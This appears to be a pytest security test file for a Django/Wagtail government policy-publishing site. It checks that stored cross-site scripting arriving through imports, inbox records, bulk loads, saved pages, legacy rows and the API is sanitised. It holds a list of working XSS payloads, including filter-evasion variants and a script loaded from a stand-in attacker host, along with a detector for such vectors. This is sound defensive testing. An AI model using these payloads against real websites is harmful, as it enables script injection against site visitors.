"""Stored XSS: whatever HTML reaches Gongkai — an imported 公文, an inbox record, a content-exchange line, a page saved
with raw HTML, an old row written around the model — the public page a citizen opens runs none of it, and the
harmless text around it still shows. Figures for the lead go to tests/artifacts/attack_xss.json."""
import fcntl
import html
import json
import re
from html.parser import HTMLParser
from io import StringIO
from pathlib import Path

import pytest
from django.core.management import call_command
from django.utils import timezone
from wagtail.rich_text import expand_db_html

from cms.policies.models import InterpretationPage, PolicyDocumentPage
from cms.policies.services import library, publish_submission
from importers.inbox import scan_inbox
from importers.models import ImportedDocument
from openness_catalog.models import Entry
from publishing import services, submissions

pytestmark = pytest.mark.django_db

ARTIFACT = Path(__file__).resolve().parent / "artifacts" / "attack_xss.json"
FIXTURE = Path(__file__).resolve().parent / "fixtures" / "gongwen" / "01_tongzhi_basic.txt"

NESTED = "<scr<script>ipt>alert(1)</scr</script>ipt>"  # harmless raw; a script once a naive filter strips <script>
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><circle r=1></circle></svg>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="javascript:alert(1)">点这里</a>',
    '<a href="javascript&#58;alert(1)">实体编码的冒号</a>',
    '<a href="&#106;&#97;vascript:alert(1)">实体编码的字母</a>',
    '<a href=" jav&#x09;ascript:alert(1)">夹着制表符</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">数据网址</a>',
    '<p style="width: expression(alert(1)); background:url(javascript:alert(1))">样式表达式</p>',
    NESTED,
    '<img src=x onerror  =  "alert(1)" >',
    "<img src=x ONERROR='alert(1)'>",
    '<img/src="x"/onerror=alert(1)>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">数学</maction></math>',
    '<form action="javascript:alert(1)"><button formaction="javascript:alert(2)">提交</button></form>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    "<details open ontoggle=alert(1)><summary>展开</summary></details>",
    '<a linktype="page" id="3" onclick="alert(1)">带事件的内部链接</a>',
    '<embed embedtype="image" id="1" format="left" alt="x" onload="alert(1)"/>',
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<input autofocus onfocus=alert(1)>",
    '<a href="vbscript:msgbox(1)">VBScript</a>',
    "<style>@import 'javascript:alert(1)';</style>",
    "<!--<img src=x onerror=alert(1)>-->",
]
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "background", "poster", "content"}
BAD_SCHEMES = ("javascript:", "vbscript:", "data:")
EMBEDDING = {"iframe", "object", "embed", "frame", "base", "applet"}


def harmless(n):
    return f"无害文字{n}：请携带身份证原件办理"


class _Audit(HTMLParser):
    """What a browser would run: script elements (other than JSON-LD data and the site's own static files),
    embedding elements, event-handler attributes, script URLs and style expressions."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems, self.tag = [], None

    def handle_data(self, data):
        if self.tag == "style" and re.search(r"javascript:|expression\(", data, re.IGNORECASE):
            self.problems.append(f"<style>{data[:60]}")

    def handle_starttag(self, tag, attrs):
        self.tag = tag
        attrs = [(name, value or "") for name, value in attrs]
        values = dict(attrs)
        if tag == "script":
            src, kind = values.get("src", ""), values.get("type", "")
            if not (kind == "application/ld+json" or (src.startswith("/static/") and "src" in values)):
                self.problems.append(f"<script {values}>")
        if tag in EMBEDDING:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            squeezed = re.sub(r"[\s\x00-\x20]", "", value).lower()
            if name.startswith("on"):
                self.problems.append(f"{tag} {name}=")
            elif name in URL_ATTRIBUTES and (squeezed.startswith(BAD_SCHEMES) or "url=javascript:" in squeezed):
                self.problems.append(f"{tag} {name}={value}")
            elif name == "style" and ("expression(" in squeezed or "javascript:" in squeezed):
                self.problems.append(f"{tag} style={value}")

    handle_startendtag = handle_starttag


def injected(page_html):
    audit = _Audit()
    audit.feed(page_html)
    audit.close()
    raw_handlers = [m for tag in re.findall(r"<[a-zA-Z][^>]*>", page_html) for m in re.findall(r"[\s/\"']on[a-z]+\s*=", tag, re.IGNORECASE)]
    return audit.problems + raw_handlers


def record(path, reached):
    ARTIFACT.parent.mkdir(exist_ok=True)
    with open(ARTIFACT.with_suffix(".lock"), "w") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)
        data = json.loads(ARTIFACT.read_text()) if ARTIFACT.exists() else {}
        data.setdefault("paths", {})[path] = {"payloads_tried": len(PAYLOADS), "payloads_reaching_a_page": reached}
        data["payloads"] = PAYLOADS
        data["paths_tried"] = sorted(data["paths"])
        data["payloads_tried"] = len(PAYLOADS)
        data["attempts"] = len(PAYLOADS) * len(data["paths"])
        data["payloads_that_reached_a_page"] = sum(len(p["payloads_reaching_a_page"]) for p in data["paths"].values())
        ARTIFACT.write_text(json.dumps(data, ensure_ascii=False, indent=2, sort_keys=True) + "\n")


def assert_clean(client, path, pages):
    """pages: [(payload index, public url)]. Every page answers 200, runs nothing injected, shows the harmless text."""
    reached, missing = [], []
    for n, url in pages:
        response = client.get(url)
        assert response.status_code == 200, url
        text = response.content.decode()
        if injected(text):
            reached.append({"payload": PAYLOADS[n], "url": url, "found": injected(text)})
        if harmless(n) not in html.unescape(text):
            missing.append(n)
    record(path, reached)
    assert len(pages) == len(PAYLOADS)
    assert reached == []
    assert missing == []


def test_the_audit_itself_spots_every_payload_left_raw():
    """The check is not blind: each payload, pasted raw into a page, is caught."""
    assert [p for p in PAYLOADS if p != NESTED and not p.startswith("<!--") and not injected(f"<p>{p}</p>")] == []
    assert injected(NESTED.replace("<script>", "").replace("</script>", ""))


def test_imported_documents_published_from_the_inbox_carry_no_script(client, demo, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    original = FIXTURE.read_text(encoding="utf-8")
    for n, payload in enumerate(PAYLOADS):
        text = original.replace("云政发〔2024〕3号", f"云政发〔2024〕{300 + n}号").replace(
            "交通安全管理工作的通知", f"交通安全管理工作的通知{n}").replace(
            "　　一、总体要求", f"　　{harmless(n)}。{payload}\n　　一、总体要求")
        (inbox / f"xss-{n:02d}.txt").write_text(text, encoding="utf-8")
    outcomes = scan_inbox(inbox, min_age=0)
    assert [o.error for o in outcomes if not o.ok] == []
    pages = []
    for doc in ImportedDocument.objects.filter(original_name__startswith="xss-").select_related("submission"):
        assert injected(doc.body_html) == [] and injected(doc.submission.body_html) == []  # the record itself
        page = publish_submission(doc.submission, mode="one_click")
        pages.append((int(doc.original_name[4:6]), page.url))
    assert_clean(client, "inbox_import_then_one_click_publish", sorted(pages))


def test_an_inbox_record_holding_raw_html_publishes_without_script(client, demo):
    """A submission whose stored HTML (and its 解读) carries markup — written by an older import or the OA — is
    sanitised on its way to the page."""
    pages, interpretations = [], []
    for n, payload in enumerate(PAYLOADS):
        sub = submissions.submit(
            source_key=f"xss-record-{n}", origin="upload", title=f"关于防范注入的通知{n}", doc_number=f"测防发〔2025〕{n + 1}号",
            issuers=["云溪市人民政府"], doc_type="通知", formed_on=timezone.localdate(), disclosure="主动公开",
            body_html=f"<p>{harmless(n)}</p>{payload}", interpretations=[
                {"key": "1", "title": f"防范注入解读{n}", "body_html": f"<p>{harmless(n)}</p>{payload}"}],
        )
        page = publish_submission(sub, mode="one_click")
        pages.append((n, page.url))
        interpretations.append((n, InterpretationPage.objects.get(policy=page).url))
    assert_clean(client, "inbox_record_raw_html_then_one_click_publish", pages)
    assert_clean(client, "inbox_record_interpretation", interpretations)


def test_content_exchange_lines_load_without_script(client, demo, tmp_path):
    today = timezone.localdate().isoformat()
    lines = []
    for n, payload in enumerate(PAYLOADS):
        body = f"<p>{harmless(n)}</p>{payload}"
        lines.append({"kind": "policy", "title": f"防注入政策{n}", "doc_number": f"测载发〔2025〕{n + 1}号",
                      "issuers": ["测试市人民政府"], "formed_on": today, "body": body})
        lines.append({"kind": "catalogue_entry", "column": "芙蓉区", "domain": "就业", "item": "就业创业政策",
                      "title": f"防注入公示{n}", "published_on": today, "body": body})
    path = tmp_path / "xss.jsonl"
    path.write_text("\n".join(json.dumps(line, ensure_ascii=False) for line in lines) + "\n", encoding="utf-8")
    call_command("load_content", str(path), stdout=StringIO())  # exit status 0: every line loaded
    policies = [(n, PolicyDocumentPage.objects.get(title=f"防注入政策{n}").url) for n in range(len(PAYLOADS))]
    entries = [(n, Entry.objects.get(title=f"防注入公示{n}").get_absolute_url()) for n in range(len(PAYLOADS))]
    assert_clean(client, "load_content_policy_body", policies)
    assert_clean(client, "load_content_catalogue_entry_body", entries)


def _draft(n):
    return services.add_draft(library(), PolicyDocumentPage(
        title=f"编辑保存的文件{n}", doc_number=f"测编发〔2025〕{n + 1}号", formed_on=timezone.localdate(), body="<p>草稿</p>"))


def test_a_page_saved_with_raw_html_shows_no_script(client, demo, django_user_model):
    """Raw HTML saved into the rich-text field by code, a form or the API, then published the Wagtail way."""
    editor = django_user_model.objects.create_superuser("xss-editor", "e@example.org", "pw-12345678")
    pages = []
    for n, payload in enumerate(PAYLOADS):
        page = _draft(n)
        page.body = f"<p>{harmless(n)}</p>{payload}"
        page.save_revision(user=editor).publish(user=editor)
        page.refresh_from_db()
        assert injected(expand_db_html(page.body)) == []  # stored sanitised (Wagtail's stored form expanded)
        pages.append((n, page.url))
    assert_clean(client, "page_saved_with_raw_html", pages)


def test_an_old_row_written_around_the_model_still_shows_no_script(client, demo):
    """Rows stored before sanitising existed (or by a queryset update) are sanitised when shown."""
    pages = []
    for n, payload in enumerate(PAYLOADS):
        page = _draft(n)
        services.publish(page, mode="editor")
        PolicyDocumentPage.objects.filter(pk=page.pk).update(body=f"<p>{harmless(n)}</p>{payload}")
        pages.append((n, page.url))
    assert_clean(client, "old_row_rendered", pages)


def test_the_policy_api_never_hands_out_stored_script(client, demo):
    """/api/v1/policies/<id> carries body_html; a row written around the model comes out sanitised there too."""
    reached, missing = [], []
    for n, payload in enumerate(PAYLOADS):
        page = _draft(n)
        services.publish(page, mode="editor")
        PolicyDocumentPage.objects.filter(pk=page.pk).update(body=f"<p>{harmless(n)}</p>{payload}")
        response = client.get(f"/api/v1/policies/{page.pk}")
        assert response.status_code == 200
        body = response.json()["body_html"]
        if injected(body):
            reached.append({"payload": payload, "url": f"/api/v1/policies/{page.pk}", "found": injected(body)})
        if harmless(n) not in html.unescape(body):
            missing.append(n)
    record("policy_api_body_html", reached)
    assert reached == []
    assert missing == []


def test_internal_links_and_tables_survive_sanitising(client, demo):
    """What Wagtail stores for a link to another page, and a 公文 table with merged cells, still work."""
    target = PolicyDocumentPage.objects.live().first()
    page = _draft(0)
    page.body = (f'<p data-block-key="k1">见<a linktype="page" id="{target.pk}">相关文件</a>和'
                 '<a href="https://www.gov.cn/zhengce/">中国政府网</a>。</p>'
                 '<table class="gw-table"><tbody><tr><td colspan="2" rowspan="1">合并单元格</td></tr></tbody></table>')
    services.publish(page, mode="editor")
    page.refresh_from_db()
    assert f'<a linktype="page" id="{target.pk}">' in page.body and 'data-block-key="k1"' in page.body
    shown = client.get(page.url).content.decode()
    assert f'<a href="{target.url}">相关文件</a>' in shown
    assert '<a href="https://www.gov.cn/zhengce/">中国政府网</a>' in shown
    assert '<td colspan="2" rowspan="1">合并单元格</td>' in shown
